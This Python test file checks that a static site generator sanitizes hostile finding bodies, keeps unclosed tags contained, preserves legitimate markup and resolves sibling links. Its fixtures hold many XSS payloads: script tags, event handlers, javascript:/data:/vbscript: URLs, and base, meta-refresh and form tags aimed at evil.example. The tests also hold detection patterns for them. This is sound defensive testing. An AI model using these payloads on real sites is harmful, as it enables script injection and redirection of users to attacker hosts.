"""Hostile and broken bodies in a built site: sanitized on every page, contained in their own block, links resolved.

One build (module scope) of the default tree in which a finding, its French
translation, a revision and a year overview carry script, event handlers,
`javascript:`/`data:` URLs, attribute lists with handlers and unclosed
`<div>`/`<script>`, next to legitimate markup (a table, an abbreviation,
headings with ids, a notice, a link to a sibling finding). The finding after
the hostile one must come out intact on every page that shows both.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from htmlutil import BuiltSite, Node, build_site, check_site
from sitetree import build_tree, make_site, mkdocs_yml

MARK = "PWNED"
"""Every payload carries this word in code, a URL or an attribute: it may reach a page only as visible text."""

EXTENSIONS = "markdown_extensions:\n  - admonition\n  - abbr\n  - tables\n  - toc:\n      permalink: true\n"

HOSTILE_BODY = f"""Intro paragraph with a [sibling](next-finding.md) and an [overview link](index.md).

<script>alert({MARK})</script>

<img src="https://example.org/pic.png" onerror="alert({MARK})">

<svg onload="alert({MARK})"><circle r="1" /></svg>

<iframe src="javascript:alert({MARK})"></iframe>

[click](javascript:alert({MARK})) [data](data:text/html;base64,{MARK}) [vb](vbscript:{MARK})
[obfuscated](jav&#x09;ascript:alert({MARK})) <a href=" JaVaScRiPt:alert({MARK})">case</a>

A paragraph with a handler.
{{ onclick="alert({MARK})" }}

<a href="https://example.org/" onmouseover="alert({MARK})" style="position:fixed">styled</a>

<base href="https://evil.example/{MARK}/">
<meta http-equiv="refresh" content="0;url=https://evil.example/{MARK}">
<link rel="stylesheet" href="https://evil.example/{MARK}.css">
<form action="https://evil.example/{MARK}"><input name="p"></form>
<!-- <script>alert({MARK})</script> -->

<!-- /d5site:html -->

<p>A body that tries to end the page's HTML run <script>alert({MARK})</script></p>

<!-- d5site:html -->

## Method {{ #method }}

The <abbr title="Organisation for Economic Co-operation and Development">OECD</abbr> helped.

| Member | Score |
|:-------|------:|
| gb     | 3     |

!!! note "Remember"
    Notices stay.

<div class="wrapper"><p>An unclosed div starts here.

<script>alert({MARK}) and an unclosed script
"""

HOSTILE_FR = f"""Paragraphe avec un [frère](next-finding.md).

<img src=https://example.org/pic.png onerror=alert({MARK})>
[lien](javascript:alert({MARK}))

## Méthode {{ #methode }}

<div><div><span>jamais fermé
"""

NEXT_BODY = "The next finding is intact.\n\n## Next section { #next-section }\n\nStill the next finding.\n"

FILES: dict[str, str] = {
    "mkdocs.yml": mkdocs_yml() + EXTENSIONS,
    "findings/2018/responsible-ai.md": (
        "---\ntitle: Responsible use of AI\nmembers: [ca, gb]\nprinciples: [user-needs]\ndate: 2018-11-22\n---\n" + HOSTILE_BODY
    ),
    "findings/2018/responsible-ai.fr.md": "---\ntitle: Usage responsable de l'IA\n---\n" + HOSTILE_FR,
    "findings/2018/next-finding.md": (
        "---\ntitle: The next finding\nmembers: [gb]\nprinciples: [user-needs]\ndate: 2018-12-01\n---\n" + NEXT_BODY
    ),
    "findings/2018/index.md": (
        "---\ntitle: \"2018: Somewhere\"\n---\n"
        f"The summit.\n\n## Findings {{ #findings }}\n\n<svg onload=alert({MARK})></svg><div>unclosed overview\n"
    ),
    "charter/principles/user-needs/2018.md": (
        "---\ntitle: User needs\n---\n"
        f"Design public services around the needs of the people who use them.<img src=https://example.org/pic.png onerror=alert({MARK})>\n"
    ),
}


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, BuiltSite]:
    return build_tree(make_site(tmp_path_factory.mktemp("bodies"), FILES), checked=True)  # hostile, but publishable once sanitized


def _outputs(site: BuiltSite) -> list[Path]:
    """Every page, search index, feed and sitemap of every locale."""
    found = [p for p in site.dir.rglob("*") if p.is_file() and (p.suffix in (".html", ".xml") or p.name == "search_index.json")]
    assert any(p.name == "search_index.json" for p in found) and any(p.name == "feed.xml" for p in found)
    return sorted(found)


def test_no_payload_in_any_page_index_or_feed(built: tuple[Path, BuiltSite]) -> None:
    """No tag, attribute, script or style of any page, search index (its HTML snippets) or feed carries a payload."""
    _, site = built
    outputs = _outputs(site)
    assert len(outputs) > 60
    in_markup = re.compile(rf"<[^<>]*{MARK}|<(script|style)\b[^>]*>[^<]*{MARK}", re.IGNORECASE)
    found = []
    for path in outputs:
        text = path.read_text("utf-8")
        if path.suffix == ".json":
            text = "\n".join(doc["text"] + doc["title"] for doc in json.loads(text)["docs"])
        found += [f"{path.relative_to(site.dir).as_posix()}: {m.group(0)}" for m in in_markup.finditer(text)]
    assert found == []
    # The payloads were there to be removed: some of them do show, as harmless text, where Markdown kept them as text.
    assert any(MARK in p.read_text("utf-8") for p in outputs if p.name == "index.html")


def test_no_html_run_marker_reaches_any_output(built: tuple[Path, BuiltSite]) -> None:
    """The markers of generated pages' HTML runs (d5site.render.rawhtml) and those a body carries never show."""
    _, site = built
    assert [p.relative_to(site.dir).as_posix() for p in _outputs(site) if "d5site:html" in p.read_text("utf-8")] == []


def test_feed_entries_carry_the_body_without_permalink_signs(built: tuple[Path, BuiltSite]) -> None:
    """The feed shares the pages' rendering of a body but leaves out the `toc` extension's permalink signs."""
    _, site = built
    for feed in ("feed.xml", "fr/feed.xml"):
        text = (site.dir / feed).read_text("utf-8")
        assert "Method" in text or "Méthode" in text
        assert "headerlink" not in text and "¶" not in text
    page = site.page("findings/2018/responsible-ai/")
    assert page.article.find("a", cls="headerlink") is not None  # the page keeps them


def test_no_unsafe_url_or_handler_in_any_page(built: tuple[Path, BuiltSite]) -> None:
    _, site = built
    problems = []
    for path in site.html_files():
        doc = site.page(site.url_of(path)).doc
        for node in doc.iter():
            for name, value in node.attrs.items():
                if name.startswith("on"):
                    problems.append(f"{path}: {node!r} {name}")
                if name in ("href", "src", "action", "formaction") and re.match(r"\s*(javascript|data|vbscript):", value or "", re.I):
                    problems.append(f"{path}: {node!r} {name}={value!r}")
            if node.tag in ("base", "iframe", "object", "embed") or (node.tag == "meta" and node.get("http-equiv")):
                problems.append(f"{path}: {node!r}")
            if node.inside("div", cls="d5-body"):
                if node.tag in ("form", "input", "script", "style", "link", "meta", "svg") or (
                    node.get("style") and node.tag not in ("td", "th")
                ):
                    problems.append(f"{path}: {node!r} in a body")
    assert problems == []


def test_data_carries_the_markdown_as_written(built: tuple[Path, BuiltSite]) -> None:
    """Open data is source text, not HTML: the body is the Markdown as written (consumers sanitize what they render)."""
    _, site = built
    data = json.loads((site.dir / "data" / "findings.json").read_text("utf-8"))
    text = json.dumps(data)
    assert HOSTILE_BODY.strip() in {(t.get("body") or "").strip() for f in data["findings"] for t in f["text"].values()}, text[:500]


def _body_of(page_article: Node, finding_heading_id: str) -> Node:
    heading = [n for n in page_article.find_all(id=finding_heading_id) if n.tag in ("h1", "h2")][0]
    return next(n for n in heading.following_siblings() if "d5-body" in n.classes)


@pytest.mark.parametrize("prefix", ["", "fr/"])
def test_next_finding_intact_in_the_report(built: tuple[Path, BuiltSite], prefix: str) -> None:
    _, site = built
    article = site.page(f"{prefix}reports/2018/").article
    next_heading = site.page(f"{prefix}reports/2018/").heading("next-finding")
    assert next_heading.parent is article  # not swallowed by the previous body's unclosed div
    hostile = _body_of(article, "responsible-ai")
    assert hostile.parent is article
    assert "next finding is intact" not in hostile.text
    intact = _body_of(article, "next-finding")
    assert intact.parent is article and "The next finding is intact." in intact.text and "Still the next finding." in intact.text
    assert "{ #" not in article.text and "{:" not in article.text
    # Headings move below the finding's own heading, ids are prefixed per finding.
    assert site.page(f"{prefix}reports/2018/").heading("next-finding--next-section").tag == "h3"


@pytest.mark.parametrize("prefix", ["", "fr/"])
def test_year_page_lists_every_finding(built: tuple[Path, BuiltSite], prefix: str) -> None:
    _, site = built
    page = site.page(f"{prefix}findings/2018/")
    items = page.article.find_all("li", cls="d5-finding")
    assert len(items) == 2 and "The next finding" in items[1].text
    assert page.heading("findings").tag == "h2"  # the overview's own "findings" heading does not clash with the page's
    assert page.heading("overview--findings").tag == "h2"
    body = page.article.one("div", cls="d5-body")
    assert body.parent is page.article and "unclosed overview" in body.text


def test_legitimate_markup_survives(built: tuple[Path, BuiltSite]) -> None:
    _, site = built
    page = site.page("findings/2018/responsible-ai/")
    body = page.article.one("div", cls="d5-body")
    assert page.heading("method").tag == "h2"
    abbr = body.one("abbr")
    assert abbr["title"] == "Organisation for Economic Co-operation and Development" and abbr.text == "OECD"
    table = body.one("table")
    assert table.get("class") is None  # Material styles table:not([class])
    assert [th.text for th in table.find_all("th")] == ["Member", "Score"]
    assert table.find_all("td")[1].get("style") == "text-align:right"
    notice = body.one("div", cls="admonition")
    assert "note" in notice.classes and notice.one("p", cls="admonition-title").text == "Remember"
    assert "Notices stay." in notice.text
    assert "A paragraph with a handler." in body.text and "{ onclick" not in body.text
    assert body.one("a", href="https://example.org/").text == "styled"


def test_table_of_contents_lists_the_body_headings(built: tuple[Path, BuiltSite]) -> None:
    _, site = built
    for url, anchor in (("findings/2018/responsible-ai/", "#method"), ("fr/findings/2018/responsible-ai/", "#methode"),
                        ("reports/2018/", "#next-finding--next-section")):
        # Every table of contents of the page: the sidebar's, and for a page in the navigation (a report) the one
        # Material nests under its entry there (shown in the drawer on a phone).
        tocs = site.page(url).doc.find_all("nav", cls="md-nav--secondary")
        assert len(tocs) == (2 if url.startswith("reports/") else 1), url
        for toc in tocs:
            assert anchor in [a.get("href") for a in toc.find_all("a")], url


@pytest.mark.parametrize(("url", "target"), [
    ("findings/2018/responsible-ai/", "findings/2018/next-finding/"),
    ("reports/2018/", "findings/2018/next-finding/"),
    ("fr/findings/2018/responsible-ai/", "fr/findings/2018/next-finding/"),
    ("fr/reports/2018/", "fr/findings/2018/next-finding/"),
    ("ko/findings/2018/responsible-ai/", "ko/findings/2018/next-finding/"),
])
def test_links_to_sibling_findings_work_on_every_page(built: tuple[Path, BuiltSite], url: str, target: str) -> None:
    _, site = built
    page = site.page(url)
    link = next(a for a in page.article.find_all("a") if a.text in ("sibling", "frère"))
    assert page.resolve(link["href"])[0] == target
    assert site.exists(target)


def test_a_link_to_a_missing_finding_is_refused_by_check_and_build(tmp_path: Path) -> None:
    body = "Intro.\n\nSee [the other one](other-finding.md).\n"
    root = make_site(tmp_path, {
        "findings/2018/responsible-ai.md": (
            "---\ntitle: Responsible use of AI\nmembers: [ca, gb]\nprinciples: [user-needs]\n---\n" + body
        ),
    })
    expected = ("findings/2018/responsible-ai.md:8: link to 'other-finding.md': no finding, translation, revision "
                "or docs page at findings/2018/other-finding.md")
    checked = check_site(root)
    assert checked.returncode == 1 and expected in checked.stdout, checked.stdout + checked.stderr
    built = build_site(root)
    assert built.returncode != 0
    assert expected in built.stdout + built.stderr
    assert "reports/2018.md" not in built.stdout + built.stderr
    assert "Traceback" not in built.stderr
